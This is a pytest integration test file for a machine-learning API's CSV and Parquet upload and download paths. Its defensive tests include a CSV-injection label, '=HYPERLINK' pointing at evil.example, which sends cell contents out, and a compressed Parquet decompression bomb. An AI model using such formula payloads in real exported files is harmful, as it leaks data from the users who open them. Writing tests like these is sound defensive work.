"""Data in and out through the real stack: CSV and Parquet uploads, JSON in
columns, and results downloaded as CSV or Parquet."""

from __future__ import annotations

import csv as csv_module
import io
import math
import uuid
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cli.ports import free_port
from cli.supervisor import start, wait_for_http
from tests.support.api import register, wait_for_job
from tests.support.stacks import extra_api_url

N_ROWS = 40
FEATURES = ["width", "colour", "day", "count", "flag"]


def _train_frame() -> pd.DataFrame:
    """Two separable classes; a text column, missing values in both kinds, dates."""
    rng = np.random.default_rng(7)
    cls = np.arange(N_ROWS) % 2
    width = np.round(4.5 + 2.0 * cls + rng.normal(0, 0.3, N_ROWS), 2)
    width[[3, 10]] = np.nan
    colour = np.where(cls == 1, "blue", "red").astype(object)
    colour[[5, 12]] = None
    return pd.DataFrame(
        {
            "width": width,
            "colour": colour,
            "day": [date(2024, 1, 1) + timedelta(days=i) for i in range(N_ROWS)],
            "count": rng.integers(0, 10, N_ROWS),
            "flag": cls.astype(bool),
            "species": np.where(cls == 1, "versicolor", "setosa"),
        }
    )


def _json_cell(value):
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, np.generic):
        return value.item()
    return value


def _records(frame: pd.DataFrame) -> list[dict]:
    return [
        {column: _json_cell(value) for column, value in row.items()}
        for row in frame.to_dict("records")
    ]


def _csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def _parquet(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    return buffer.getvalue()


def _accepted(response: httpx.Response) -> dict:
    assert response.status_code == 202, response.text
    return response.json()


def _finish(api: httpx.Client, headers: dict, job: dict) -> tuple[dict, dict]:
    done = wait_for_job(api, headers, job["id"])
    assert done["status"] == "succeeded", done
    result = api.get(f"/jobs/{done['id']}/result", headers=headers)
    assert result.status_code == 200, result.text
    return done, result.json()


def _predict_json(api, headers, model_id: str, X, **fields) -> dict:
    """A predict job submitted as JSON, accepted."""
    body = {"model_id": model_id, "X": X, **fields}
    return _accepted(api.post("/jobs/predict", headers=headers, json=body))


def _same_at_rest(stack, one: dict, other: dict, column: str) -> None:
    """Two jobs' stored tables are the same table."""
    pd.testing.assert_frame_equal(
        _stored(stack, one["id"], column), _stored(stack, other["id"], column)
    )


def _stored(stack, job_id: str, column: str) -> pd.DataFrame:
    [(data,)] = stack.sql(f"SELECT {column} FROM job_data WHERE job_id = :id", id=job_id)
    return pd.read_parquet(io.BytesIO(data))


def _fit_and_predict_both_ways(api, stack, headers, train, test, *, target, encode, suffix):
    """Fit and predict once from JSON and once from files; returns both results."""
    features = [c for c in train.columns if c != target]
    json_fit = _accepted(
        api.post(
            "/jobs/fit",
            headers=headers,
            json={
                "task": "classification",
                "train": {"X": _records(train[features]), "y": train[target].tolist()},
            },
        )
    )
    file_fit = _accepted(
        api.post(
            "/jobs/fit",
            headers=headers,
            data={"task": "classification", "target": target, "options": "{}"},
            files={"file": (f"train{suffix}", encode(train))},
        )
    )
    # The same data, whichever way it came, is the same table at rest.
    _same_at_rest(stack, json_fit, file_fit, "train_parquet")
    _, json_model = _finish(api, headers, json_fit)
    _, file_model = _finish(api, headers, file_fit)
    assert json_model["classes"] == file_model["classes"]

    json_predict = _predict_json(
        api, headers, json_model["model_id"], _records(test), output="probabilities"
    )
    file_predict = _accepted(
        api.post(
            "/jobs/predict",
            headers=headers,
            data={"model_id": file_model["model_id"], "output": "probabilities"},
            files={"file": (f"test{suffix}", encode(test))},
        )
    )
    _same_at_rest(stack, json_predict, file_predict, "test_parquet")
    _, from_json = _finish(api, headers, json_predict)
    predict_job, from_file = _finish(api, headers, file_predict)
    return from_json, from_file, predict_job


def test_csv_upload_fits_and_predicts_like_json(api, stack):
    headers = register(api)
    train = _train_frame()
    test = train[FEATURES].iloc[[0, 1, 3, 5, 6, 10]]
    from_json, from_file, job = _fit_and_predict_both_ways(
        api, stack, headers, train, test, target="species", encode=_csv, suffix=".csv"
    )
    assert from_file == from_json
    assert from_file["classes"] == ["setosa", "versicolor"]
    assert from_file["predictions"] == ["setosa", "versicolor", "versicolor", "versicolor"] + [
        "setosa",
        "setosa",
    ]

    # The same result as a CSV download: rows in input order, named columns.
    csv = api.get(f"/jobs/{job['id']}/result?format=csv", headers=headers)
    assert csv.status_code == 200, csv.text
    assert csv.headers["content-type"].startswith("text/csv")
    assert csv.headers["content-disposition"] == f'attachment; filename="{job["id"]}.csv"'
    table = pd.read_csv(io.BytesIO(csv.content))
    assert list(table.columns) == ["prediction", "proba_setosa", "proba_versicolor"]
    assert table["prediction"].tolist() == from_file["predictions"]
    np.testing.assert_allclose(table.iloc[:, 1:].to_numpy(), from_file["probabilities"])


def test_a_csv_result_does_not_run_formulas_from_labels_in_a_spreadsheet(api, stack):
    # Class labels are the user's text: a CSV download must not hand a spreadsheet
    # a formula to run (OWASP CSV injection); JSON and Parquet keep them as they are.
    headers = register(api)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"]
    X = [[float(i), float(i % 3)] for i in range(12)]
    y = [hostile[i % 2] for i in range(12)]
    job = _accepted(
        api.post(
            "/jobs/fit-predict",
            headers=headers,
            json={
                "task": "classification",
                "train": {"X": X, "y": y, "columns": ["a", "=b"]},
                "test": {"X": [[-1.5, 0.0], [1.0, 1.0]]},
                "output": "probabilities",
            },
        )
    )
    assert wait_for_job(api, headers, job["id"])["status"] == "succeeded"
    as_json = api.get(f"/jobs/{job['id']}/result", headers=headers).json()
    assert set(as_json["predictions"]) <= set(hostile)

    def download(**params) -> list[list[str]]:
        response = api.get(
            f"/jobs/{job['id']}/result", params={"format": "csv", **params}, headers=headers
        )
        assert response.status_code == 200, response.text
        return list(csv_module.reader(io.StringIO(response.text, newline="")))

    header, *rows = download()
    assert [row[0] for row in rows] == ["'" + label for label in as_json["predictions"]]
    for row, probabilities in zip(rows, as_json["probabilities"], strict=True):
        assert [float(cell) for cell in row[1:]] == probabilities  # numbers stay numbers
    assert header == ["prediction", *(f"proba_{label}" for label in as_json["classes"])]
    # Turned off on request; Parquet is never changed.
    assert [row[0] for row in download(escape_formulas="false")[1:]] == as_json["predictions"]
    parquet = api.get(f"/jobs/{job['id']}/result", params={"format": "parquet"}, headers=headers)
    frame = pd.read_parquet(io.BytesIO(parquet.content))
    assert frame["prediction"].tolist() == as_json["predictions"]


def test_parquet_upload_with_integer_labels_and_dates(api, stack):
    headers = register(api)
    train = _train_frame().drop(columns=["species"])
    train["stamp"] = [datetime(2024, 3, 1, 10, 30) + timedelta(hours=i) for i in range(N_ROWS)]
    train["label"] = np.where(np.arange(N_ROWS) % 2 == 1, 7, 0)
    test = train.drop(columns=["label"]).iloc[[2, 3, 4, 9]]
    from_json, from_file, job = _fit_and_predict_both_ways(
        api, stack, headers, train, test, target="label", encode=_parquet, suffix=".parquet"
    )
    assert from_file == from_json
    assert from_file["classes"] == [0, 7]
    assert from_file["predictions"] == [0, 7, 0, 7]
    stored = _stored(stack, job["id"], "test_parquet")
    assert stored["day"].tolist() == ["2024-01-03", "2024-01-04", "2024-01-05", "2024-01-10"]
    assert stored["stamp"].iloc[0] == "2024-03-01T12:30:00"

    # Parquet download, asked for by Accept.
    download = api.get(
        f"/jobs/{job['id']}/result",
        headers={**headers, "Accept": "application/vnd.apache.parquet"},
    )
    assert download.status_code == 200, download.text
    assert download.headers["content-type"] == "application/vnd.apache.parquet"
    table = pd.read_parquet(io.BytesIO(download.content))
    assert list(table.columns) == ["prediction", "proba_0", "proba_7"]
    assert table["prediction"].tolist() == [0, 7, 0, 7]


def test_fit_predict_with_two_files_and_table_downloads(api):
    headers = register(api)
    x = np.arange(30, dtype=float)
    train = pd.DataFrame({"x": x, "kind": np.where(x % 3 == 0, "a", "b"), "y": 2 * x + 1})
    train.loc[4, "kind"] = None
    test = pd.DataFrame({"kind": ["a", "b", None, "b"], "x": [25.0, 2.0, 14.0, 7.5]})
    job = _accepted(
        api.post(
            "/jobs/fit-predict",
            headers=headers,
            data={
                "task": "regression",
                "target": "y",
                "output": "quantiles",
                "quantiles": "0.1,0.5,0.9",
            },
            files={
                "train_file": ("train.parquet", _parquet(train)),
                "test_file": ("test.csv", _csv(test)),
            },
        )
    )
    done, result = _finish(api, headers, job)
    assert done["type"] == "fit_predict"
    assert set(result["quantiles"]) == {"0.1", "0.5", "0.9"}
    high, low = result["predictions"][0], result["predictions"][1]
    assert high > 30 and low < 20  # test columns were matched by name, not position

    csv = api.get(f"/jobs/{job['id']}/result", headers={**headers, "Accept": "text/csv"})
    assert csv.headers["content-type"].startswith("text/csv")
    table = pd.read_csv(io.BytesIO(csv.content))
    assert list(table.columns) == ["prediction", "q_0.1", "q_0.5", "q_0.9"]
    np.testing.assert_allclose(table["prediction"], result["predictions"])
    np.testing.assert_allclose(table["q_0.9"], result["quantiles"]["0.9"])
    as_json = api.get(f"/jobs/{job['id']}/result?format=json", headers=headers)
    assert as_json.json() == result

    # A fit's result is a one-row table of its fields.
    fit = _accepted(
        api.post(
            "/jobs/fit",
            headers=headers,
            data={"task": "regression", "target": "y"},
            files={"file": ("train.parquet", _parquet(train))},
        )
    )
    _, fitted = _finish(api, headers, fit)
    download = api.get(f"/jobs/{fit['id']}/result?format=parquet", headers=headers)
    assert download.headers["content-disposition"] == f'attachment; filename="{fit["id"]}.parquet"'
    assert pd.read_parquet(io.BytesIO(download.content)).to_dict("records") == [
        {"model_id": fitted["model_id"], "task": "regression", "n_rows": 30, "n_features": 2}
    ]
    bad = api.get(f"/jobs/{job['id']}/result?format=xlsx", headers=headers)
    assert (bad.status_code, bad.json()["code"]) == (422, "validation_error")


def test_json_columns_keep_names_and_order(api):
    headers = register(api)
    columns = {
        "size": [0.1, 0.2, 0.3, 5.0, 5.1, 5.2],
        "tint": ["red", "red", None, "blue", "blue", "blue"],
    }
    fit = _accepted(
        api.post(
            "/jobs/fit",
            headers=headers,
            json={"task": "classification", "train": {"X": columns, "y": ["a"] * 3 + ["b"] * 3}},
        )
    )
    _, model = _finish(api, headers, fit)
    assert api.get(f"/models/{model['model_id']}", headers=headers).json()["columns"] == [
        "size",
        "tint",
    ]
    # Columns in another order are matched by name.
    X = {"tint": ["blue", "red"], "size": [5.0, 0.2]}
    predict = _predict_json(api, headers, model["model_id"], X)
    _, result = _finish(api, headers, predict)
    assert result["predictions"] == ["b", "a"]

    refused = [
        {"model_id": model["model_id"], "X": {"size": [1.0], "colour": ["red"]}},
        {"model_id": model["model_id"], "X": {"size": [1.0, 2.0], "tint": ["red"]}},
        {"model_id": model["model_id"], "X": {"size": [1.0], "tint": ["r"]}, "columns": ["a"]},
        {"model_id": model["model_id"], "X": {}},
    ]
    for body in refused:
        response = api.post("/jobs/predict", headers=headers, json=body)
        assert (response.status_code, response.json()["code"]) == (422, "validation_error"), body
    assert "colour" in api.post("/jobs/predict", headers=headers, json=refused[0]).json()["detail"]
    assert len(api.get("/jobs", headers=headers).json()["jobs"]) == 2


def test_integers_past_2_53_are_rounded_as_json_rounds_them(api, stack):
    """An id column or a regression target past 2**53 in a file: float64 numbers,
    the same table as from JSON (which reads them as Python floats), not a refusal."""
    headers = register(api)
    big = [2**53 + 1, 2, 3, 2**62 + 1]
    frame = pd.DataFrame({"id": big, "y": big})  # int64 columns in Parquet
    train = {"X": {"id": big}, "y": big}
    from_json = _accepted(
        api.post("/jobs/fit", headers=headers, json={"task": "regression", "train": train})
    )
    for name, content in (("t.csv", _csv(frame)), ("t.parquet", _parquet(frame))):
        from_file = _accepted(
            api.post(
                "/jobs/fit",
                headers=headers,
                data={"task": "regression", "target": "y"},
                files={"file": (name, content)},
            )
        )
        _same_at_rest(stack, from_json, from_file, "train_parquet")
    assert _stored(stack, from_json["id"], "train_parquet")["id"][0] == float(2**53)


PARQUET_BYTES = _parquet(pd.DataFrame({"a": [1.0, 2.0], "y": ["x", "z"]}))
NUL_LABEL = _parquet(pd.DataFrame({"a": [1.0, 2.0, 3.0], "y": ["x", "z\x00", "x"]}))
NUL_NAME = _parquet(pd.DataFrame({"a\x00": [1.0, 2.0], "y": ["x", "z"]}))
DECIMAL_LABELS = _parquet(pd.DataFrame({"a": [1.0, 2.0], "y": [Decimal("0.5"), Decimal("1.0")]}))
BAD_UPLOADS = {
    "wrong-target": ("t.csv", b"a,b\n1,x\n2,z\n", "validation_error", "['a', 'b']"),
    "unparsable-csv": ("t.csv", b"a,y\n1,x\n2,z,3,4\n", "validation_error", "line 3 has 4 fields"),
    "csv-named-parquet": ("t.parquet", b"a,y\n1,x\n2,z\n", "file_format_mismatch", "CSV"),
    "parquet-named-csv": ("t.csv", PARQUET_BYTES, "file_format_mismatch", "PARQUET"),
    "unknown-extension": ("t.xlsx", b"a,y\n1,x\n2,z\n", "unsupported_file", ".xlsx"),
    "binary-csv": ("t.csv", b"PK\x03\x04\x00\x00binary", "unsupported_file", "binary"),
    "broken-parquet": ("t.parquet", b"PAR1 not really", "validation_error", "Parquet"),
    "empty": ("t.csv", b"", "validation_error", "empty"),
    "repeated-columns": ("t.csv", b"a,a,y\n1,2,x\n3,4,z\n", "validation_error", "repeated"),
    "infinite": ("t.csv", b"a,y\n1,x\ninf,z\n", "number_out_of_range", "row 1 is out of range"),
    "only-the-target": ("t.csv", b"y\nx\nz\n", "validation_error", "no feature columns besides"),
    "fractional-labels": ("t.csv", b"a,y\n1,1\n2,1.5\n", "validation_error", "row 1 is 1.5"),
    "decimal-labels": ("t.parquet", DECIMAL_LABELS, "validation_error", "row 0 is 0.5"),
    # NUL: no CSV holds one (binary), a Parquet file may. Stored as JSON, which cannot.
    "nul-in-a-label": ("t.parquet", NUL_LABEL, "validation_error", "'y', row 1 holds a NUL"),
    "nul-in-a-column-name": ("t.parquet", NUL_NAME, "validation_error", "'a\\x00' holds a NUL"),
}


@pytest.mark.parametrize("upload", BAD_UPLOADS.values(), ids=BAD_UPLOADS.keys())
def test_refused_uploads_are_422_and_store_nothing(api, upload):
    filename, content, code, says = upload
    headers = register(api)
    response = api.post(
        "/jobs/fit",
        headers=headers,
        data={"task": "classification", "target": "y"},
        files={"file": (filename, content)},
    )
    assert response.status_code == 422, response.text
    assert response.json()["code"] == code
    assert says in response.json()["detail"]
    assert api.get("/jobs", headers=headers).json()["jobs"] == []


def test_whole_numbers_written_as_floats_are_classes_in_files(api):
    headers = register(api)
    floats = pd.DataFrame({"a": [1.0, 2.0, 3.0], "y": [1.0, 2.0, 1.0]})
    decimals = floats.assign(y=[Decimal("1.00"), Decimal("2.00"), Decimal("1.00")])
    for name, content in (
        ("t.csv", b"a,y\n1,1.0\n2,2.0\n3,1.0\n"),
        ("t.parquet", _parquet(floats)),
        ("t.parquet", _parquet(decimals)),
    ):
        _accepted(
            api.post(
                "/jobs/fit",
                headers=headers,
                data={"task": "classification", "target": "y"},
                files={"file": (name, content)},
            )
        )


def test_bad_form_fields_are_422(api):
    headers = register(api)
    files = {"file": ("t.csv", b"a,y\n1,x\n2,z\n")}
    for data in (
        {"task": "classification"},  # no target
        {"task": "clustering", "target": "y"},
        {"task": "classification", "target": "y", "options": "{not json"},
        {"task": "classification", "target": "y", "options": "[1]"},
        {"task": "classification", "target": "y", "options": '{"nope": 1}'},
        # JSON that Python's parser cannot read (was a 500) or the database could not store.
        {"task": "classification", "target": "y", "options": "[" * 3000 + "]" * 3000},
        {
            "task": "classification",
            "target": "y",
            "options": '{"n_estimators": ' + "9" * 5000 + "}",
        },
        {"task": "classification", "target": "y", "options": '{"softmax_temperature": NaN}'},
    ):
        response = api.post("/jobs/fit", headers=headers, data=data, files=files)
        assert (response.status_code, response.json()["code"]) == (422, "validation_error"), data
    for quantiles in ("[" * 100_000, "[" + "9" * 400 + "]"):
        response = api.post(
            "/jobs/predict",
            headers=headers,
            data={"model_id": str(uuid.uuid4()), "quantiles": quantiles},
            files=files,
        )
        assert (response.status_code, response.json()["code"]) == (422, "validation_error")
    no_file = api.post(
        "/jobs/fit",
        headers=headers,
        data={"task": "classification", "target": "y"},
        files={"other": ("t.csv", b"a,y\n1,x\n")},
    )
    assert (no_file.status_code, no_file.json()["code"]) == (422, "validation_error")
    assert "file" in no_file.json()["detail"]
    unknown_model = api.post(
        "/jobs/predict", headers=headers, data={"model_id": str(uuid.uuid4())}, files=files
    )
    assert (unknown_model.status_code, unknown_model.json()["code"]) == (404, "model_not_found")
    assert api.get("/jobs", headers=headers).json()["jobs"] == []


def test_idempotency_key_with_an_upload_returns_the_first_job(api):
    headers = {**register(api), "Idempotency-Key": f"upload-{uuid.uuid4()}"}
    data = {"task": "classification", "target": "y"}
    content = b"a,y\n1,x\n2,z\n3,x\n4,z\n"
    first = _accepted(
        api.post("/jobs/fit", headers=headers, data=data, files={"file": ("t.csv", content)})
    )
    again = api.post("/jobs/fit", headers=headers, data=data, files={"file": ("u.csv", content)})
    assert again.status_code == 202
    assert again.json()["id"] == first["id"]
    assert again.headers["Idempotent-Replayed"] == "true"
    other = api.post(
        "/jobs/fit", headers=headers, data=data, files={"file": ("t.csv", content + b"5,x\n")}
    )
    assert (other.status_code, other.json()["code"]) == (409, "idempotency_conflict")
    assert len(api.get("/jobs", headers=headers).json()["jobs"]) == 1


@pytest.fixture(scope="module")
def small_upload_api(stack, tmp_path_factory):
    yield from extra_api_url(stack, tmp_path_factory, "small", MAX_UPLOAD_BYTES="100000")


def test_upload_over_max_upload_bytes_is_413(api, small_upload_api):
    headers = register(api)
    content = b"a,y\n" + b"1.0,x\n2.0,z\n" * 20_000  # 240 kB
    with httpx.Client(base_url=small_upload_api, timeout=30) as client:
        declared = client.post(
            "/jobs/fit",
            headers=headers,
            data={"task": "classification", "target": "y"},
            files={"file": ("big.csv", content)},
        )
        assert (declared.status_code, declared.json()["code"]) == (413, "payload_too_large")

        # Without a Content-Length: counted as it streams, cut off at the limit.
        boundary = "tabpfnapiboundary"
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="task"\r\n\r\nclassification'
                f'\r\n--{boundary}\r\nContent-Disposition: form-data; name="target"\r\n\r\ny'
                f'\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                'filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n'
            ).encode()
            + content
            + f"\r\n--{boundary}--\r\n".encode()
        )

        def chunks():
            for offset in range(0, len(body), 16384):
                yield body[offset : offset + 16384]

        streamed = client.post(
            "/jobs/fit",
            headers={**headers, "content-type": f"multipart/form-data; boundary={boundary}"},
            content=chunks(),
        )
        assert (streamed.status_code, streamed.json()["code"]) == (413, "payload_too_large")
        # A small file still goes through this API.
        small = client.post(
            "/jobs/fit",
            headers=headers,
            data={"task": "classification", "target": "y"},
            files={"file": ("small.csv", b"a,y\n" + b"1.0,x\n2.0,z\n" * 50)},
        )
        assert small.status_code == 202, small.text
    assert [j["id"] for j in api.get("/jobs", headers=headers).json()["jobs"]] == [
        small.json()["id"]
    ]


def _memory_kb(pid: int) -> dict[str, int]:
    fields = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmHWM", "VmRSS"):
            fields[key] = int(value.split()[0])
    return fields


def _reset_peak(pid: int) -> bool:
    """Reset the process's VmHWM to its current RSS (Linux clear_refs 5)."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        return False
    return True


@pytest.fixture(scope="module")
def measured_api(stack, tmp_path_factory):
    """An API process of its own, so its peak memory is this test's alone."""
    port = free_port()
    logs = tmp_path_factory.mktemp("memory")
    process = start("api-memory", ["api", "--port", str(port)], stack.env, logs)
    try:
        wait_for_http(f"http://127.0.0.1:{port}/healthz", process)
        yield f"http://127.0.0.1:{port}/api/v1", process.popen.pid
    finally:
        process.stop()


UPLOAD_MEMORY_BUDGET_MB = 64  # docs/uploads.md: the most one upload grows the API


def _zeros_bomb(rows: int = 30_000_000) -> bytes:
    buffer = io.BytesIO()
    zeros = pa.table({"x": np.zeros(rows), "y": np.zeros(rows)})
    pq.write_table(zeros, buffer, compression="zstd", row_group_size=rows)
    return buffer.getvalue()


def test_uploads_grow_the_api_by_a_constant_not_by_the_file(api, measured_api, capsys):
    url, pid = measured_api
    headers = register(api)
    rng = np.random.default_rng(11)
    n = 100_000
    columns = {f"f{j}": np.round(rng.normal(size=n), 6) for j in range(18)}
    columns["kind"] = rng.choice(["red", "green", "blue"], size=n)
    columns["day"] = np.datetime_as_string(
        np.datetime64("2024-01-01") + rng.integers(0, 365, n).astype("timedelta64[D]")
    )
    frame = pd.DataFrame(columns)
    small = _csv(frame.iloc[:50].assign(y=np.arange(50) % 2))
    with httpx.Client(base_url=url, timeout=120) as client:
        fit = _accepted(
            client.post(
                "/jobs/fit",
                headers=headers,
                data={"task": "classification", "target": "y"},
                files={"file": ("small.csv", small)},
            )
        )
        model = wait_for_job(api, headers, fit["id"])
        assert model["status"] == "succeeded", model

        def predict(name: str, content: bytes) -> httpx.Response:
            return client.post(
                "/jobs/predict",
                headers=headers,
                data={"model_id": model["model_id"]},
                files={"file": (name, content)},
            )

        # Warm up the upload path (lazy imports, allocator pools) before measuring.
        _accepted(predict("warm.csv", _csv(frame.iloc[:1000])))
        _accepted(predict("warm.parquet", _parquet(frame.iloc[:1000])))

        def fit(name: str, content: bytes) -> httpx.Response:
            return client.post(
                "/jobs/fit",
                headers=headers,
                data={"task": "classification", "target": "y"},
                files={"file": (name, content)},
            )

        def growth_mb(name: str, content: bytes, expect: int, send=predict) -> float:
            reset = _reset_peak(pid)
            baseline = _memory_kb(pid)["VmHWM"]
            response = send(name, content)
            assert response.status_code == expect, response.text
            grown = (_memory_kb(pid)["VmHWM"] - baseline) / 1024
            with capsys.disabled():
                print(
                    f"\nupload {name} {len(content) / 2**20:.1f} MiB: API VmHWM "
                    f"+{grown:.0f} MiB (peak reset: {reset})"
                )
            return grown

        big_csv, big_parquet = _csv(frame), _parquet(frame)
        assert 15 < len(big_csv) / 2**20 < 30
        assert growth_mb("big.csv", big_csv, 202) < UPLOAD_MEMORY_BUDGET_MB
        assert growth_mb("big.parquet", big_parquet, 202) < UPLOAD_MEMORY_BUDGET_MB
        # 30 million rows of zeros: refused by the row limit from the file's
        # metadata, before a page is read.
        bomb = _zeros_bomb()
        assert growth_mb("bomb.parquet", bomb, 422, send=fit) < UPLOAD_MEMORY_BUDGET_MB / 4
    for job in api.get("/jobs", headers=headers).json()["jobs"]:
        api.post(f"/jobs/{job['id']}/cancel", headers=headers)
